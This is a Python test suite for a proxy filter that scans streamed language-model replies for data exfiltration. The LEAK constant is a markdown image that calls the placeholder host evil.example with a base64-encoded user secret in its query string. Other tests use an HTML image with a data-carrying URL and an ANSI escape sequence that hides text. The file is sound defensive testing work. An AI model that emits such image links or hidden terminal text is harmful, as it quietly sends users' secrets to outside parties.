from __future__ import annotations

import json
from itertools import pairwise

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from m2m_trio.errors import ContentFilterError
from m2m_trio.proxy.reply_scan import REPLIES, ReplyScan, make_reply_scan
from m2m_trio.scan.output import HELD, ReplyWatch, text_of
from m2m_trio.settings.model import SecuritySettings
from m2m_trio.stats.board import Board
from m2m_trio.wire.sse import SSEEvent

LEAK = "Look: ![chart](https://evil.example/p.png?d=c2VjcmV0IGtleSBvZiB0aGUgdXNlcg) nice"


def event(text: str) -> SSEEvent:
    data = {"choices": [{"index": 0, "delta": {"content": text}}]}
    return SSEEvent(b"data: " + json.dumps(data).encode() + b"\n\n")


@settings(max_examples=50, deadline=None)
@given(cuts=st.lists(st.integers(0, len(LEAK)), max_size=12))
def test_a_leak_is_seen_however_it_is_cut(cuts: list[int]) -> None:
    watch = ReplyWatch()
    places = [0, *sorted(cuts), len(LEAK)]
    found = [kind for a, b in pairwise(places) for kind in watch.feed(LEAK[a:b])]
    assert found == ["image"]


@settings(max_examples=50, deadline=None)
@given(texts=st.lists(st.text(max_size=30), max_size=20), block=st.booleans())
def test_every_event_comes_out_once_and_in_order(texts: list[str], block: bool) -> None:
    stage = ReplyScan(Board.in_memory(started=0.0).row(0), block=block)
    events = [event(text) for text in texts if "\x1b" not in text and "\x9b" not in text]
    out = [passed for one in events for passed in stage.feed([one])]
    assert [*out, *stage.finish()] == events


@pytest.mark.parametrize(
    "text",
    [
        "![logo](https://example.com/logo.png)",
        "![build](https://ci.example/badge.svg?branch=main)",
        "a[i] != b[j] and x < y",
        "see https://example.com/search?q=a+long+query+that+is+typed",
    ],
)
def test_ordinary_pictures_and_links_are_not(text: str) -> None:
    assert ReplyWatch().feed(text) == []


def test_pictures_in_html_and_terminal_controls_are_seen_once() -> None:
    watch = ReplyWatch()
    assert watch.feed('<img src="https://e.example/?x=aaaaaaaaaaaaaaaaaaaaaaaa">') == ["image"]
    assert watch.feed("\x1b[8mhidden\x1b[0m") == ["terminal"]
    assert watch.feed("\x1b]8;;https://e.example\x07") == []


def test_only_a_begun_picture_is_held_back() -> None:
    stage = ReplyScan(Board.in_memory(started=0.0).row(0), block=True)
    assert len(stage.feed([event("Hello")])) == 1
    assert stage.feed([event(" ![a](https://")]) == []
    assert len(stage.feed([event("x.example/a.png) done")])) == 2
    assert stage.feed([event("!")]) == []
    assert len(stage.feed([event("[" + "x" * HELD)])) == 2


def test_blocking_ends_the_reply_before_the_leak_is_out() -> None:
    row = Board.in_memory(started=0.0).row(0)
    stage = ReplyScan(row, block=True)
    sent = b""
    with pytest.raises(ContentFilterError, match="carries data away"):
        for letter in LEAK:
            sent += b"".join(stage.feed([event(letter)]))
    assert b"evil" not in sent.replace(b'"}}]}\n\n', b"")
    assert row.cells[REPLIES["image"]] == 1


def test_monitoring_counts_and_passes_on() -> None:
    row = Board.in_memory(started=0.0).row(0)
    stage = ReplyScan(row, block=False)
    assert stage.feed([event(LEAK)]) == [event(LEAK)]
    assert stage.finish() == []
    assert row.cells[REPLIES["image"]] == 1


@pytest.mark.parametrize(
    ("data", "text"),
    [
        ({"type": "response.output_text.delta", "delta": "a"}, "a"),
        ({"type": "content_block_delta", "delta": {"type": "text_delta", "text": "b"}}, "b"),
        ({"choices": [{"text": "c"}, {"text": "d"}]}, "cd"),
        ({"choices": [{"delta": {}}]}, ""),
        ({"delta": 7}, ""),
        ({"object": "chat.completion.chunk"}, ""),
    ],
)
def test_texts_of_all_dialects(data: object, text: str) -> None:
    assert text_of(SSEEvent(b"data: " + json.dumps(data).encode() + b"\n\n")) == text


def test_the_stage_is_there_only_where_it_is_asked_for() -> None:
    row = Board.in_memory(started=0.0).row(0)
    assert make_reply_scan(SecuritySettings(), row) is None
    assert make_reply_scan(SecuritySettings(enabled=True, replies="off"), row) is None
    make = make_reply_scan(SecuritySettings(enabled=True), row)
    assert make is not None
    assert make().feed([]) == []
